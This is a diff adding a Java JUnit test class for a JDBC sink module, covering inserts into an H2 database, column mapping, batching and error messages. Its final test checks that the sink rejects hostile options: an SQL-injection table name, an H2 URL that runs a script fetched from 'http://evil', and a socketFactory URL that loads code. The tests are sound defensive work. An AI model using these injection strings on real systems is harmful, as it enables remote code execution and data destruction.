@@ -1,0 +1,164 @@
+package io.xd.modules.builtin.jdbc;
+
+import java.nio.file.Path;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.SQLException;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.TimeUnit;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import io.xd.modules.ModuleMessages;
+import io.xd.modules.ModuleOptionException;
+import io.xd.modules.builtin.file.ModuleFixtures;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
+import static org.assertj.core.api.Assertions.assertThatIllegalStateException;
+import static org.awaitility.Awaitility.await;
+
+/** The jdbc sink against an H2 database in a temporary directory (PostgreSQL: JdbcSinkPostgresIntegrationTests). */
+class JdbcSinkTests {
+
+	@TempDir
+	Path dir;
+
+	private String url() {
+		return "jdbc:h2:file:" + this.dir.resolve("db");
+	}
+
+	private JdbcSink sink(Map<String, String> options) {
+		Map<String, String> all = new HashMap<>(Map.of("url", url(), "username", "sa"));
+		all.putAll(options);
+		return ModuleFixtures.create(new JdbcSink.Provider(), all);
+	}
+
+	@Test
+	void insertsPlainPayloadsIntoThePayloadColumn() throws SQLException {
+		JdbcSink sink = sink(Map.of("tableName", "t", "initialize", "true"));
+		sink.start();
+		sink.handleMessage(ModuleMessages.of("hello"));
+		sink.handleMessage(ModuleMessages.of("w\u00f6rld".getBytes()));
+		sink.stop();
+
+		assertThat(JdbcRows.query(connect(), "SELECT payload FROM t")).containsExactly(List.of("hello"),
+				List.of("w\u00f6rld"));
+	}
+
+	@Test
+	void mapsJsonFieldsToColumnsByName() throws SQLException {
+		JdbcSink sink = sink(Map.of("tableName", "people", "columns", "name, first_name,age,tags",
+				"initializeDatabase", "true"));
+		sink.start();
+		sink.handleMessage(ModuleMessages.of("{\"name\":\"Lovelace\",\"firstName\":\"Ada\",\"age\":36,\"tags\":[1]}"));
+		sink.handleMessage(ModuleMessages.of("{\"name\":null}"));
+		sink.stop();
+
+		assertThat(JdbcRows.query(connect(), "SELECT name, first_name, age, tags FROM people")).containsExactly(
+				List.of("Lovelace", "Ada", "36", "[1]"), JdbcRows.nulls(4));
+	}
+
+	@Test
+	void convertsValuesToTheTypesOfAnExistingTable() throws SQLException {
+		try (Connection connection = connect()) {
+			connection.createStatement().execute("CREATE TABLE typed (n INTEGER, ok BOOLEAN, payload VARCHAR(20))");
+		}
+		JdbcSink sink = sink(Map.of("tableName", "typed", "columns", "n,ok,payload"));
+		sink.start();
+		sink.handleMessage(ModuleMessages.of("{\"n\":7,\"ok\":true}"));
+		sink.stop();
+
+		assertThat(JdbcRows.query(connect(), "SELECT n, ok, payload FROM typed"))
+			.containsExactly(List.of("7", "TRUE", "{\"n\":7,\"ok\":true}"));
+	}
+
+	@Test
+	void batchesRowsAndInsertsTheRestWhenIdle() throws SQLException {
+		JdbcSink sink = sink(Map.of("tableName", "b", "initialize", "true", "batchSize", "3", "idleTimeout", "100"));
+		sink.start();
+		for (int i = 0; i < 4; i++) {
+			sink.handleMessage(ModuleMessages.of("m" + i));
+		}
+		assertThat(JdbcRows.query(connect(), "SELECT payload FROM b")).hasSize(3);
+
+		await().atMost(5, TimeUnit.SECONDS)
+			.untilAsserted(() -> assertThat(JdbcRows.query(connect(), "SELECT payload FROM b")).hasSize(4));
+		sink.stop();
+	}
+
+	@Test
+	void stopInsertsWhatIsPending() throws SQLException {
+		JdbcSink sink = sink(Map.of("tableName", "s", "initialize", "true", "batchSize", "100", "idleTimeout", "60000"));
+		sink.start();
+		sink.handleMessage(ModuleMessages.of("last"));
+		sink.stop();
+
+		assertThat(JdbcRows.query(connect(), "SELECT payload FROM s")).containsExactly(List.of("last"));
+	}
+
+	@Test
+	void defaultsToAnH2DatabaseInTheDataDirectory() throws SQLException {
+		String previous = System.setProperty("xd.data.dir", this.dir.toString());
+		try {
+			JdbcSink sink = ModuleFixtures.create(new JdbcSink.Provider(), Map.of("initialize", "true"));
+			sink.start();
+			sink.handleMessage(ModuleMessages.of("embedded"));
+			sink.stop();
+		}
+		finally {
+			if (previous == null) {
+				System.clearProperty("xd.data.dir");
+			}
+			else {
+				System.setProperty("xd.data.dir", previous);
+			}
+		}
+
+		Connection connection = DriverManager.getConnection("jdbc:h2:file:" + this.dir.resolve("jdbc/xd"), "sa", "");
+		assertThat(JdbcRows.query(connection, "SELECT payload FROM teststream")).containsExactly(List.of("embedded"));
+	}
+
+	@Test
+	void failsAtStartWhenTheTableIsMissing() {
+		JdbcSink sink = sink(Map.of("tableName", "absent"));
+
+		assertThatIllegalStateException().isThrownBy(sink::start)
+			.withMessageContaining("The table absent does not exist; create it or give --initialize=true");
+	}
+
+	@Test
+	void failsAtStartWithTheReasonWhenTheDatabaseRefusesTheConnection() {
+		JdbcSink sink = ModuleFixtures.create(new JdbcSink.Provider(),
+				Map.of("url", "jdbc:postgresql://127.0.0.1:1/none", "tableName", "t"));
+
+		assertThatIllegalStateException().isThrownBy(sink::start)
+			.withMessageContaining("The jdbc sink cannot use jdbc:postgresql://127.0.0.1:1/none")
+			.withMessageContaining("Connection");
+	}
+
+	@Test
+	void rejectsNamesThatAreNotIdentifiersAndUrlsThatLoadCode() {
+		assertThatExceptionOfType(ModuleOptionException.class)
+			.isThrownBy(() -> sink(Map.of("tableName", "t; DROP TABLE x")))
+			.withMessageContaining("option 'tableName' must be an SQL identifier");
+		assertThatExceptionOfType(ModuleOptionException.class)
+			.isThrownBy(() -> sink(Map.of("tableName", "t", "columns", "a,\"b\"")))
+			.withMessageContaining("option 'columns' must be a comma-separated list");
+		assertThatExceptionOfType(ModuleOptionException.class)
+			.isThrownBy(() -> sink(Map.of("tableName", "t", "columns", "a,A")));
+		assertThatExceptionOfType(ModuleOptionException.class)
+			.isThrownBy(() -> sink(Map.of("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")));
+		assertThatExceptionOfType(ModuleOptionException.class)
+			.isThrownBy(() -> sink(Map.of("url", "jdbc:postgresql://h/db?socketFactory=x.Y&socketFactoryArg=z")));
+		assertThatExceptionOfType(ModuleOptionException.class)
+			.isThrownBy(() -> sink(Map.of("url", "jdbc:mysql://h/db")));
+	}
+
+	private Connection connect() throws SQLException {
+		return DriverManager.getConnection(url(), "sa", "");
+	}
+}
